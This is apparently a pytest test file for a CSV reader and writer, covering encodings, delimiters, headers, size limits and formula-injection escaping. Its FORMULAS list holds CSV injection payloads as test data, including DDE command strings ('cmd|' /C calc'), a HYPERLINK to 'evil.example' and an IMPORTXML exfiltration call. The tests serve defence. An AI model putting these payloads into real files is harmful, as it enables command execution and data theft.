import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postmeter.kit.csv import MAX_COLUMNS, BadFile, Cell, Table, read, safe_cell, write

PLAIN = "Name,Phone,Note\r\nJosé,+14155550100,“hi”\r\nMüller,+14155550101,\r\n"
ROWS = [("José", "+14155550100", "“hi”"), ("Müller", "+14155550101", "")]


def cells(table: Table) -> list[tuple[str, ...]]:
    return [row.cells for row in table.rows]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_a_file_is_read_in_the_encodings_that_spreadsheets_write(encoding: str) -> None:
    table = read(PLAIN.encode(encoding))
    assert (table.headers, cells(table), table.encoding) == (("Name", "Phone", "Note"), ROWS, encoding)


@pytest.mark.parametrize("mark", [b"\xfe\xff", b"\xff\xfe"])
def test_both_byte_orders_are_known_by_their_mark(mark: bytes) -> None:
    codec = "utf-16-be" if mark == b"\xfe\xff" else "utf-16-le"
    assert cells(read(mark + PLAIN.encode(codec))) == ROWS


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r"])
def test_delimiters_and_line_ends_are_found_out(delimiter: str, ending: str) -> None:
    text = PLAIN.replace(",", delimiter).replace("\r\n", ending)
    table = read(text.encode())
    assert (table.delimiter, table.headers, cells(table)) == (delimiter, ("Name", "Phone", "Note"), ROWS)


def test_delimiters_inside_the_text_do_not_mislead() -> None:
    table = read(b'phone;text\n+14155550100;"Hi, you, there; come"\n+14155550101;one, two, three\n')
    assert (table.delimiter, cells(table)) == (
        ";",
        [("+14155550100", "Hi, you, there; come"), ("+14155550101", "one, two, three")],
    )


def test_a_single_column_is_a_table_too() -> None:
    assert cells(read(b"phone\n+14155550100\n+14155550101\n")) == [("+14155550100",), ("+14155550101",)]


def test_rows_know_the_line_they_begin_at() -> None:
    table = read(b'a,b\n1,"two\nlines"\n\n ,\n3,4\n')
    assert [(row.line, row.cells) for row in table.rows] == [(2, ("1", "two\nlines")), (6, ("3", "4"))]


def test_a_ragged_row_says_so_and_the_others_stay() -> None:
    table = read(b"a,b,c\n1,2,3\n1,2\n1,2,3,4\n9\n")
    assert [row.problem for row in table.rows] == [
        None,
        "This row has 2 cells where 3 are expected.",
        "This row has 4 cells where 3 are expected.",
        "This row has 1 cell where 3 are expected.",
    ]


@pytest.mark.parametrize(
    ("first", "is_header"),
    [
        ("Name,Phone", True),
        ("name,mobile number", True),
        ("Ann,+14155550100", False),
        ("Ann,415-555-0100", False),
        ("ann@example.com,Ann", False),
        ("same,same", False),
        ("a" * 61 + ",b", False),
    ],
)
def test_a_header_is_told_from_data(first: str, is_header: bool) -> None:
    table = read(f"{first}\nBob,+14155550101\n".encode())
    assert (table.has_header, len(table.rows)) == (is_header, 1 if is_header else 2)
    assert is_header or table.headers == ("Column 1", "Column 2")


@pytest.mark.parametrize("header", [True, False])
def test_a_person_may_know_better_whether_there_is_a_header(header: bool) -> None:
    table = read(b"Ann,+14155550100\nname,phone\n", header=header)
    assert (table.has_header, len(table.rows)) == (header, 2 - header)


def test_headers_are_made_unique_and_never_empty() -> None:
    assert read(b" First  name ,,Note,Note\n1,2,3,4\n", header=True).headers == ("First name", "Column 2", "Note", "Note (4)")
    assert len(set(read(b"A (3),A,A\n1,2,3\n", header=True).headers)) == 3


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"\n\n , \n", "empty"),
        (b"a,b\n1,\x002\n", "not a text file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not a text file"),
        (b"\xff\xfea", "not a text file"),
        (b"\xff\xfe\x00\xd8a\x00", "not a text file"),
        ("a,b\n".encode("utf-16-le"), "not a text file"),
        (b"caf\xe9 \x81", "not a text file"),
        (b'a,b\n1,2\n"never,ends\n3,4\n', "line 3"),
        (b'a,b\n1,2\n"x"y,2\n', "line 3"),
        (b"a,b\n" + b"x" * 200_000 + b",1\n", "line 2"),
        (b",".join([b"a"] * (MAX_COLUMNS + 1)), "columns"),
    ],
)
def test_a_file_that_is_no_table_is_refused_with_a_remedy(data: bytes, why: str) -> None:
    with pytest.raises(BadFile, match=why) as refusal:
        read(data)
    assert (refusal.value.field, bool(refusal.value.remedy)) == ("file", True)


def test_the_size_of_a_file_has_limits() -> None:
    data = b"a,b\n" + b"1,2\n" * 10
    assert len(read(data, max_rows=10, max_bytes=len(data)).rows) == 10
    with pytest.raises(BadFile, match="rows"):
        read(data + b"1,2\n", max_rows=10)
    with pytest.raises(BadFile, match="rows"):
        read(b"1234,2\n" * 11, max_rows=10)
    with pytest.raises(BadFile, match="larger"):
        read(data, max_bytes=len(data) - 1)


@given(st.binary(max_size=300))
def test_whatever_is_uploaded_is_read_or_refused(data: bytes) -> None:
    try:
        table = read(data)
    except BadFile:
        return
    assert all(row.problem or len(row.cells) == len(table.headers) for row in table.rows)


FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',  # promises.md, CSV; ASVS 1.2.10
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "\n=1", " =1", "  +1", "\u00a0=1", "＝1", "＋1", "－1", "＠a"),
    *("+14155550100", "-", "=", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x",A1),"//a")'),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_from_users_never_becomes_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Ann", "a=1", "1+1", "ann@example.com", "'=1", "10 - 5", "5"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (-5, "-5"),
        (Decimal("-0.50"), "-0.50"),
        (Decimal("1E-7"), "0.0000001"),
        (None, ""),
        (date(2026, 1, 2), "2026-01-02"),
        (0, "0"),
    ],
)
def test_our_own_numbers_stay_numbers_also_below_zero(cell: Cell, text: str) -> None:
    assert safe_cell(cell) == text


def test_floats_do_not_belong_into_a_table() -> None:
    with pytest.raises(TypeError):
        safe_cell(0.1)  # type: ignore[arg-type]


def test_a_file_is_written_as_rfc_4180_says() -> None:
    lines = list(write(["Name", "Amount"], iter([['Ann "A"', -5], ["a,b", Decimal("1.50")], ["two\nlines", None], ["=1", 1]])))
    assert lines == [
        "\ufeff".encode(),
        b"Name,Amount\r\n",
        b'"Ann ""A""",-5\r\n',
        b'"a,b",1.50\r\n',
        b'"two\nlines",\r\n',
        b"'=1,1\r\n",
    ]


def test_a_row_that_does_not_fit_its_headers_is_a_bug() -> None:
    with pytest.raises(ValueError, match="2 cells under 1"):
        list(write(["a"], [["1", "2"]]))


words = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)


@given(st.lists(st.tuples(words, words), max_size=5))
def test_what_is_written_holds_no_formula_and_is_read_back(rows: list[tuple[str, str]]) -> None:
    data = b"".join(write(["a", "b"], rows))
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert back == [[safe_cell(one), safe_cell(other)] for one, other in rows]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0") and cell for row in back for cell in row)
